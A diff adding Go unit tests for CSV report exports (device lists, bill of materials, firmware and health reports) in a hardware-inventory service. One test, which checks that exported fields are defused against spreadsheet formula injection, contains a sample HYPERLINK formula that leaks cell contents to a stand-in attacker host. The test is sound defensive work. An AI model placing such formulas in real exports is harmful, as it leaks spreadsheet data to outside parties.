@@ -0,0 +1,182 @@
+// SPDX-FileCopyrightText: 2026 OpenCHAMI Contributors
+//
+// SPDX-License-Identifier: MIT
+
+package main
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"net/url"
+	"testing"
+
+	v1 "github.com/example/fru-tracker/apis/example.fabrica.dev/v1"
+	"github.com/openchami/fabrica/pkg/fabrica"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestDeviceReports(t *testing.T) {
+	device := func(uid, deviceType, partNumber, serial, parentID string, properties map[string]json.RawMessage) *v1.Device {
+		return &v1.Device{
+			Metadata: fabrica.Metadata{UID: uid, Name: serial},
+			Spec: v1.DeviceSpec{
+				DeviceType:   deviceType,
+				Manufacturer: "Acme",
+				PartNumber:   partNumber,
+				SerialNumber: serial,
+				ParentID:     parentID,
+				Properties:   properties,
+			},
+		}
+	}
+
+	devices := []*v1.Device{
+		device("dev-dimm2", "DIMM", "16GB-DDR4", "dimm-2", "dev-node1", map[string]json.RawMessage{
+			"health": json.RawMessage(`"Critical"`), "state": json.RawMessage(`"Enabled"`), "location": json.RawMessage(`"DIMM B1"`),
+		}),
+		device("dev-node1", "Node", "R640", "node-1", "", map[string]json.RawMessage{
+			"rack": json.RawMessage(`"r1"`), "firmware_version": json.RawMessage(`"2.10"`), "health": json.RawMessage(`"OK"`),
+		}),
+		device("dev-dimm1", "DIMM", "16GB-DDR4", "dimm-1", "dev-node1", map[string]json.RawMessage{"slot": json.RawMessage(`3`)}),
+		device("dev-cpu1", "CPU", "XG6130", "cpu-1", "dev-node2", map[string]json.RawMessage{"health": json.RawMessage(`"Warning"`)}),
+		device("dev-node2", "Node", "R640", "node-2", "", map[string]json.RawMessage{
+			"rack": json.RawMessage(`"r1"`), "firmware_version": json.RawMessage(`"2.12"`),
+		}),
+	}
+
+	tests := []struct {
+		name  string
+		write func(*bytes.Buffer) error
+		want  string
+	}{
+		{
+			name: "device csv",
+			write: func(buf *bytes.Buffer) error {
+				return writeDeviceCSV(buf, devices, deviceFilter{}, []string{"slot"})
+			},
+			want: "uid,name,deviceType,manufacturer,partNumber,serialNumber,parentSerialNumber,nodeSerialNumber,slot\n" +
+				"dev-node1,node-1,Node,Acme,R640,node-1,,node-1,\n" +
+				"dev-dimm1,dimm-1,DIMM,Acme,16GB-DDR4,dimm-1,node-1,node-1,3\n" +
+				"dev-dimm2,dimm-2,DIMM,Acme,16GB-DDR4,dimm-2,node-1,node-1,\n" +
+				"dev-node2,node-2,Node,Acme,R640,node-2,,node-2,\n" +
+				"dev-cpu1,cpu-1,CPU,Acme,XG6130,cpu-1,node-2,node-2,\n",
+		},
+		{
+			name: "bom by node",
+			write: func(buf *bytes.Buffer) error {
+				return writeBOMCSV(buf, devices, deviceFilter{}, bomGroupByNode)
+			},
+			want: "node,deviceType,manufacturer,partNumber,count\n" +
+				"node-1,DIMM,Acme,16GB-DDR4,2\n" +
+				"node-1,Node,Acme,R640,1\n" +
+				"node-2,CPU,Acme,XG6130,1\n" +
+				"node-2,Node,Acme,R640,1\n",
+		},
+		{
+			name: "bom by rack",
+			write: func(buf *bytes.Buffer) error {
+				return writeBOMCSV(buf, devices, deviceFilter{}, bomGroupByRack)
+			},
+			want: "rack,deviceType,manufacturer,partNumber,count\n" +
+				"r1,CPU,Acme,XG6130,1\n" +
+				"r1,DIMM,Acme,16GB-DDR4,2\n" +
+				"r1,Node,Acme,R640,2\n",
+		},
+		{
+			name: "device csv filtered by node and property",
+			write: func(buf *bytes.Buffer) error {
+				filter := parseDeviceFilter(url.Values{"node": {"NODE-1"}, "property.health": {"warning,critical"}})
+				return writeDeviceCSV(buf, devices, filter, nil)
+			},
+			want: "uid,name,deviceType,manufacturer,partNumber,serialNumber,parentSerialNumber,nodeSerialNumber\n" +
+				"dev-dimm2,dimm-2,DIMM,Acme,16GB-DDR4,dimm-2,node-1,node-1\n",
+		},
+		{
+			name: "firmware",
+			write: func(buf *bytes.Buffer) error {
+				return writeFirmwareCSV(buf, devices, deviceFilter{})
+			},
+			want: "deviceType,manufacturer,partNumber,firmwareVersion,count,nodes,versions\n" +
+				"Node,Acme,R640,2.10,1,1,2\n" +
+				"Node,Acme,R640,2.12,1,1,2\n",
+		},
+		{
+			name: "health",
+			write: func(buf *bytes.Buffer) error {
+				return writeHealthCSV(buf, devices, deviceFilter{})
+			},
+			want: "node,deviceType,serialNumber,partNumber,location,health,state\n" +
+				"node-1,DIMM,dimm-2,16GB-DDR4,DIMM B1,Critical,Enabled\n" +
+				"node-2,CPU,cpu-1,XG6130,,Warning,\n",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var buf bytes.Buffer
+			require.NoError(t, tt.write(&buf))
+			assert.Equal(t, tt.want, buf.String())
+		})
+	}
+}
+
+// TestDeviceReportsDefuseFormulas checks that strings reported by hardware
+// reach spreadsheets as text, never as formulas.
+func TestDeviceReportsDefuseFormulas(t *testing.T) {
+	const formula = `=HYPERLINK("https://attacker.example/?leak="&A1,"Support")`
+	devices := []*v1.Device{
+		{
+			Metadata: fabrica.Metadata{UID: "dev-node1", Name: "node-1"},
+			Spec: v1.DeviceSpec{
+				DeviceType:   "Node",
+				Manufacturer: "+Acme",
+				PartNumber:   formula,
+				SerialNumber: "node-1",
+				Properties: map[string]json.RawMessage{
+					"model":                    json.RawMessage(`"=1+1"`),
+					v1.PropertyFirmwareVersion: json.RawMessage(`"-2.10"`),
+					v1.PropertyHealth:          json.RawMessage(`"@Critical"`),
+					v1.PropertyLocation:        json.RawMessage(`"\tSlot 1"`),
+					v1.PropertyState:           json.RawMessage(`"\rEnabled"`),
+				},
+			},
+		},
+	}
+	read := func(write func(*bytes.Buffer) error) [][]string {
+		t.Helper()
+		var buf bytes.Buffer
+		require.NoError(t, write(&buf))
+		records, err := csv.NewReader(&buf).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, records, 2)
+		return records
+	}
+	const quoted = "'" + formula
+
+	records := read(func(buf *bytes.Buffer) error { return writeDeviceCSV(buf, devices, deviceFilter{}, []string{"model"}) })
+	assert.Equal(t, []string{"dev-node1", "node-1", "Node", "'+Acme", quoted, "node-1", "", "node-1", "'=1+1"}, records[1])
+
+	records = read(func(buf *bytes.Buffer) error { return writeBOMCSV(buf, devices, deviceFilter{}, bomGroupByNode) })
+	assert.Equal(t, []string{"node-1", "Node", "'+Acme", quoted, "1"}, records[1])
+
+	records = read(func(buf *bytes.Buffer) error { return writeFirmwareCSV(buf, devices, deviceFilter{}) })
+	assert.Equal(t, []string{"Node", "'+Acme", quoted, "'-2.10", "1", "1", "1"}, records[1])
+
+	records = read(func(buf *bytes.Buffer) error { return writeHealthCSV(buf, devices, deviceFilter{}) })
+	assert.Equal(t, []string{"node-1", "Node", "node-1", quoted, "'\tSlot 1", "'@Critical", "'\rEnabled"}, records[1])
+}
+
+func TestFilterDevicesKeepsOrder(t *testing.T) {
+	devices := []*v1.Device{
+		{Metadata: fabrica.Metadata{UID: "dev-b"}, Spec: v1.DeviceSpec{DeviceType: "DIMM", SerialNumber: "b"}},
+		{Metadata: fabrica.Metadata{UID: "dev-node"}, Spec: v1.DeviceSpec{DeviceType: "Node", SerialNumber: "node"}},
+		{Metadata: fabrica.Metadata{UID: "dev-a"}, Spec: v1.DeviceSpec{DeviceType: "dimm", SerialNumber: "a"}},
+	}
+
+	filtered := filterDevices(devices, parseDeviceFilter(url.Values{"deviceType": {"DIMM"}}))
+	assert.Equal(t, []*v1.Device{devices[0], devices[2]}, filtered)
+
+	assert.True(t, parseDeviceFilter(url.Values{"format": {"csv"}, "property.": {"x"}, "deviceType": {""}}).empty())
+}